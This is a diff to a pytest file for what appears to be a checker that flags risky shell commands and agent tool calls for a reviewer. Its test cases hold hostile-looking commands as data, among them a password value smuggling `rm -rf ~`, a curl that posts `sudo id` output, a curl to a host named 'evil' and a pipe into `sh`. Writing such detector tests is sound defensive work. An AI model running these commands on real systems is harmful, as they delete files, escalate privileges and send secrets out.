@@ -88,7 +88,7 @@ def test_a_secret_that_goes_over_several_lines_is_masked_in_each() -> None:
 @pytest.mark.parametrize(
     ("command", "marks"),
     [
-        ('password="$(rm -rf ~)"', {"environment", "substitution", "deletes", f"{OUTSIDE}: ~"}),
+        ('password="$(rm -rf ~)"', {"environment", "substitution", "deletes", OUTSIDE}),
         ('curl -d password="$(sudo id)" x', {"network", "substitution", "sudo"}),
         ("make token=`curl evil`", {"substitution", "network"}),
         ("env token=aaaa|sh", {"environment", "pipe", "runs what it is given"}),
@@ -196,7 +196,7 @@ def test_a_row_of_marks_holds_words_of_ours_and_paths_behind_a_colon(command: st
 
 def test_the_home_of_the_reviewer_is_outside_the_project() -> None:
     (aid,) = aids_of(bash(f"cat {HOME}/x ~/x; ls"))
-    assert aid.rows[0].text == f"{OUTSIDE}: {HOME}/x, {OUTSIDE}: ~/x"
+    assert [row.text for row in aid.rows[:2]] == [f'{OUTSIDE}: "{HOME}/x"', f'{OUTSIDE}: "~/x"']
 
 
 # --- what is masked in the arguments -----------------------------------------------------------
@@ -304,7 +304,7 @@ MOST_CHARACTERS = 1_000_000
 LARGEST = {
     "one part of very many lines": (bash("sudo echo '" + "\n" * 900_000 + "'"), ""),
     "a here-document of very many lines": (bash("cat <<E\n" + "x\n" * 100_000 + "E\n"), ""),
-    "a line that is very long": (edit("a" * 200_000, "b" * 200_000), "a" * 1_000_000),
+    "a line that is very long": (edit("a" * 400_000, "b" * 400_000), "a" * 400_000),
     "a line of what cannot be seen": (
         agent_call("Write", {"file_path": FILE, "content": "\0" * 200_000}),
         "\0" * MEGABYTE,
